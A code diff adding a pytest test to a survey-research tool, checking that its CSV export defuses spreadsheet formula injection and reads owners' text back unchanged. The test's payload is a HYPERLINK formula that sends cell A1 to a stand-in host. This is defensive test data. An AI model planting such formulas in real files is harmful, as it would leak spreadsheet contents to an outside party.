@@ -7,6 +7,7 @@ wave, ``contact_ok`` true, and NPS 0–6 or CSAT 1–2 or CES 1–3.
 
 from __future__ import annotations
 
+import csv
 import re
 import shutil
 from pathlib import Path
@@ -15,6 +16,7 @@ import pandas as pd
 import pytest
 
 from cxresearch import cli
+from cxresearch.csv_text import FORMULA_STARTS, read_csv, write_csv
 from cxresearch.data import load_responses
 from cxresearch.errors import DataError, ParamsError
 from cxresearch.journey.loop import export_list, import_list, loop_files, read_status
@@ -208,3 +210,32 @@ def test_unknown_status_configuration_is_refused(project: Path) -> None:
     path.write_text(PARAMS + "    closed: [finished]\n", encoding="utf-8")
     with pytest.raises(ParamsError, match=r"\['finished'\] are not among the statuses"):
         load_params(path)
+
+
+def test_followup_csv_guards_formula_like_text_and_reads_it_back(project: Path) -> None:
+    """A comment that a spreadsheet would run is written as text and imported back as given."""
+    payload = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    root = project
+    rows = pd.read_csv(root / "data" / "responses.csv", dtype=str, keep_default_na=False)
+    params_path = root / "params" / "kotiposti.yaml"
+    first_id = expected_items(root)["response_id"].iloc[0]
+    rows.loc[rows["response_id"] == first_id, "comment"] = payload
+    rows.to_csv(root / "data" / "responses.csv", index=False)
+    csv_path = export_list(params_path)[0]
+    with csv_path.open(encoding="utf-8", newline="") as handle:
+        raw = list(csv.reader(handle))
+    header = raw[0]
+    by_id = {row[header.index("response_id")]: row for row in raw[1:]}
+    assert by_id[first_id][header.index("comment")] == "'" + payload
+    assert not [c for row in raw[1:] for c in row if c.startswith(FORMULA_STARTS)]
+    # An owner writes an action that starts with "-" and saves the list as CSV (a
+    # spreadsheet keeps the apostrophe it shows); the stored action is the owner's text.
+    listed = read_csv(csv_path)
+    assert listed.loc[listed["response_id"] == first_id, "comment"].item() == payload
+    update = closed(listed, 1)
+    update.loc[update.index[0], "action"] = "-soitettu, =hyvitetty"
+    write_csv(update, root / "update.csv")
+    import_list(root / "update.csv", params_path=params_path)
+    status = read_status(loop_files(load_params(params_path)).status)
+    stored = status.set_index("response_id").loc[update["response_id"].iloc[0], "action"]
+    assert stored == "-soitettu, =hyvitetty"
